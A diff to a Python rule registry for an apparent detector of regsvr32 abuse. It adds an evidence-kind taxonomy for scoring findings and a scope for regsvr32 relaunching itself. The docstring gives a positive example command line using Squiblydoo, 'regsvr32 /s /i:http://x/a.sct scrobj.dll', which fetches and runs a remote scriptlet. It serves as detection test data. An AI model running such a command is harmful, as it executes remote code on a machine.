@@ -1,7 +1,8 @@
 """The rule registry: each rule is declared once, with its metadata, next to its check.
 
     @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)", COMMAND_LINE, risk=85,
-          family="scriptlets_and_remote_payloads", techniques=(T,), sources=("L01", ...),
+          family="scriptlets_and_remote_payloads", evidence="scriptlet", techniques=(T,),
+          sources=("L01", ...),
           description="...", positives=("regsvr32 /s /i:http://x/a.sct scrobj.dll",),
           negatives=("regsvr32 /s scrobj.dll",))
     def squiblydoo(inv):
@@ -14,6 +15,7 @@ enforces it (the detector only calls a check on events of its scope):
   remembered per command line.
 - actor(kinds): events of these kinds whose acting process is regsvr32; the check gets the Event.
 - child(): process creations whose parent is regsvr32; the check gets the Event.
+- relaunch(): regsvr32 started by regsvr32; the check gets the Event.
 - any_event(kinds): every event of these kinds (persistence, COM registrations); the Event.
 
 Examples are data: a string is the command line of a regsvr32 process creation; a dict holds
@@ -67,18 +69,42 @@ def child():
     return Scope("processes started by regsvr32", (PROCESS,), parent=True)
 
 
+def relaunch():
+    return Scope("regsvr32 started by regsvr32", (PROCESS,), actor=True, parent=True)
+
+
 def any_event(*kinds):
     return Scope("any %s event" % "/".join(kinds), kinds)
 
 
+# Kinds of evidence: findings of different kinds are independent and raise the score together;
+# findings of one kind describe the same fact (where the module is, say) and do not.
+EVIDENCE = {
+    "scriptlet": "a scriptlet runs (scrobj.dll, /i: scriptlet, .NET in a scriptlet)",
+    "remote": "the payload comes over the network (URL, IP, SMB, WebDAV)",
+    "location": "where the module is",
+    "format": "what the module's file name says it is",
+    "invocation": "how regsvr32 is called (switches, no arguments)",
+    "syntax": "path or switch syntax written to evade string rules",
+    "lineage": "which process started regsvr32",
+    "identity": "what the regsvr32 binary itself is (renamed, relocated)",
+    "behaviour": "what regsvr32 did next (children, injection)",
+    "network": "regsvr32's own connections and look-ups",
+    "load": "modules regsvr32 loaded",
+    "persistence": "something set up to run regsvr32 or a scriptlet later",
+    "campaign": "a named campaign's pattern",
+}
+
+
 class Rule(object):
     __slots__ = ("id", "title", "description", "techniques", "risk", "sources", "scope",
-                 "family", "check", "positives", "negatives", "false_positives")
+                 "family", "evidence", "check", "positives", "negatives", "false_positives")
 
-    def __init__(self, id, title, scope, check, risk, family, techniques, sources, description,
-                 positives, negatives, false_positives=""):
+    def __init__(self, id, title, scope, check, risk, family, evidence, techniques, sources,
+                 description, positives, negatives, false_positives=""):
         self.id, self.title, self.description = id, title, description
         self.scope, self.check, self.risk, self.family = scope, check, risk, family
+        self.evidence = evidence
         self.techniques, self.sources = tuple(techniques), tuple(sources)
         self.false_positives = false_positives
         self.positives = tuple(example_event(scope, e) for e in positives)
@@ -99,15 +125,17 @@ class Rule(object):
 RULES_IN_ORDER = []       # as declared; RULES (below, by id) is built by finish()
 
 
-def rule(id, title, scope, risk, family, techniques, sources, description, positives, negatives,
-         false_positives=""):
+def rule(id, title, scope, risk, family, evidence, techniques, sources, description, positives,
+         negatives, false_positives=""):
     """Declare the decorated function as the check of a rule (see the module docstring)."""
     if family not in FAMILIES_BY_KEY:
         raise ValueError("%s: unknown family %r" % (id, family))
+    if evidence not in EVIDENCE:
+        raise ValueError("%s: unknown kind of evidence %r" % (id, evidence))
 
     def declare(check):
-        RULES_IN_ORDER.append(Rule(id, title, scope, check, risk, family, techniques, sources,
-                                   description, positives, negatives, false_positives))
+        RULES_IN_ORDER.append(Rule(id, title, scope, check, risk, family, evidence, techniques,
+                                   sources, description, positives, negatives, false_positives))
         return check
     return declare
 
